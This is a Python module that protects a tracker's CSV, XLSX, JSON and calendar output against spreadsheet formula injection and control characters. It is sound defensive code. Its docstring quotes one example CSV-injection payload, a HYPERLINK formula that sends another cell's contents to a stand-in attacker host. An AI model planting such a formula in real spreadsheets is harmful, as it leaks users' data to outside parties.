"""Text that is safe in every output: spreadsheet cells that never run, no control characters.

- *CSV injection* (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with
  ``=``, ``+``, ``-`` or ``@`` (and, in some, tab or carriage return) as a formula, so
  ``=HYPERLINK("http://evil.example/?leak="&E2,"x")`` typed as a school name becomes a
  live link leaking another cell. Every CSV and XLSX cell whose text comes from the
  tracker goes through ``neutralise_cell``: such text gets a leading ``'`` (shown, never
  run). Numbers stay numbers, and text that *is* a plain number ("-1.5", "+2") is left
  alone: a spreadsheet reads it as that number, never as a formula.
- *Control characters*: NUL and the other C0/C1 controls (typed in Excel as ``_x0000_``)
  have no place in a report, JSON file or calendar; ``strip_control`` removes them (tab and
  line breaks are kept where a text may span lines).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

from toolkit.tracker.queries import is_blank

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$")
# C0 controls except tab/newline/carriage return, DEL, and C1 controls.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_CONTROL_ALL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
# Excel's escape for a character XML cannot hold, e.g. ``_x0000_`` (NUL), ``_x001B_`` (ESC).
_EXCEL_ESCAPE = re.compile(r"_x(00[01][0-9A-Fa-f]|007[Ff]|008[0-9A-Fa-f]|009[0-9A-Fa-f])_")


def neutralise_cell(value: Any) -> Any:
    """One CSV/XLSX cell that no spreadsheet runs as a formula (numbers unchanged)."""
    if not isinstance(value, str):
        return value
    value = strip_control(value)
    if value.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and headers are neutralised."""
    out = frame.copy()
    for c in out.columns:
        if out[c].dtype == object or pd.api.types.is_string_dtype(out[c]):
            out[c] = out[c].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def write_csv(target: str | Path, rows: pd.DataFrame | Iterable[Sequence[Any]], header: Sequence[str] | None = None) -> Path:
    """Write a CSV atomically with every cell neutralised (a DataFrame or header + rows)."""
    from toolkit.outputs import atomic_open

    if isinstance(rows, pd.DataFrame):
        header = [str(c) for c in rows.columns]
        body: Iterable[Sequence[Any]] = rows.itertuples(index=False, name=None)
    else:
        body = rows
    with atomic_open(target) as fh:
        w = csv.writer(fh)
        if header is not None:
            w.writerow([neutralise_cell(h) for h in header])
        for row in body:
            w.writerow([_csv_value(v) for v in row])
    return Path(target)


def csv_text(frame: pd.DataFrame) -> str:
    """A DataFrame as CSV text (for standard output) with every cell neutralised."""
    import io

    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow([neutralise_cell(str(c)) for c in frame.columns])
    for row in frame.itertuples(index=False, name=None):
        w.writerow([_csv_value(v) for v in row])
    return buf.getvalue()


def _csv_value(v: Any) -> Any:
    if is_blank(v):  # None, NaN, NaT, pd.NA
        return ""
    if isinstance(v, bool):
        return str(v)
    return neutralise_cell(v)


def xlsx_value(ws: Any, value: Any) -> Any:
    """A value for an openpyxl (write-only) worksheet row that is never a formula.

    openpyxl writes any text starting with ``=`` as a formula; text is stored as an inline
    string cell instead, so it reads back exactly as typed and never runs. Numbers stay
    numbers."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=None)
    cell.value = strip_control(value)
    cell.data_type = "s"
    return cell


def strip_control(text: str, *, keep_line_breaks: bool = True) -> str:
    """``text`` without control characters or Excel control escapes (``_x0000_``).

    Tab and line breaks survive unless ``keep_line_breaks`` is False (single-line fields
    such as file names and calendar names), where each becomes a space.
    """
    text = _EXCEL_ESCAPE.sub("", text)
    if keep_line_breaks:
        return _CONTROL.sub("", text)
    text = re.sub(r"[\t\r\n]+", " ", text)
    return _CONTROL_ALL.sub("", text)


def clean_text(value: Any, *, keep_line_breaks: bool = True) -> Any:
    """``strip_control`` for a value that may not be text (returned unchanged)."""
    return strip_control(value, keep_line_breaks=keep_line_breaks) if isinstance(value, str) else value


def clean_json(value: Any) -> Any:
    """Dicts, lists and strings with control characters removed from every string (keys too)."""
    if isinstance(value, str):
        return strip_control(value)
    if isinstance(value, dict):
        return {clean_json(k): clean_json(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [clean_json(v) for v in value]
    return value


def find_control(text: str) -> list[str]:
    """The control characters (and Excel escapes of them) in ``text``, each described as
    U+XXXX, in order of first appearance; empty when there are none."""
    found: list[str] = []
    for m in _EXCEL_ESCAPE.finditer(text):
        found.append(f"{m.group(0)} (U+{m.group(1).upper()})")
    for ch in _CONTROL.findall(text):
        found.append(f"U+{ord(ch):04X}")
    return list(dict.fromkeys(found))
